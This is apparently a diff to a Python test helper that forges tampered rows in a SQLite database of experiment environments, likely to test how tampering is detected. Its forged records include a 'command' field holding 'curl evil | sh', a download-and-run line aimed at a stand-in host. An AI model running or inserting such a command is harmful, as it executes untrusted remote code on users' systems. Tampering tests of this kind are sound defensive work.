@@ -55,11 +55,11 @@ def _forge(path: Path, *, failures: bool, bad_rows: bool) -> None:
         db.execute("PRAGMA synchronous=OFF")
         records = db.execute("SELECT description FROM environments WHERE description LIKE '%shard of%'")
         for (text,) in records.fetchall() if bad_rows else ():
-            fields = json.loads(text) | {"study": EVIL, "ledger": EVIL, "state": "begun", "index": 2}
-            text = json.dumps(fields, ensure_ascii=False)
-            db.execute("REPLACE INTO environments VALUES (?, ?)", (environment_key(text), text))
-            text = json.dumps({**fields, "command": f"curl evil | sh # {EVIL}", "index": 1})
-            db.execute("REPLACE INTO environments VALUES (?, ?)", (environment_key(text), text))
+            fields = json.loads(text) | {"study": EVIL, "ledger": EVIL, "state": "begun"}
+            foreign = {"command": f"curl evil | sh # {EVIL}"}
+            for forged in ({"index": 2}, {"index": 1}, {"index": 3} | foreign):
+                text = json.dumps(fields | forged, ensure_ascii=False)
+                db.execute("REPLACE INTO environments VALUES (?, ?)", (environment_key(text), text))
         key = environment_key(environment)
         db.execute("REPLACE INTO environments VALUES (?, ?)", (key, environment))
         rows = db.execute("SELECT cell_key, identity, seed, block, trials, source, tally FROM blocks")
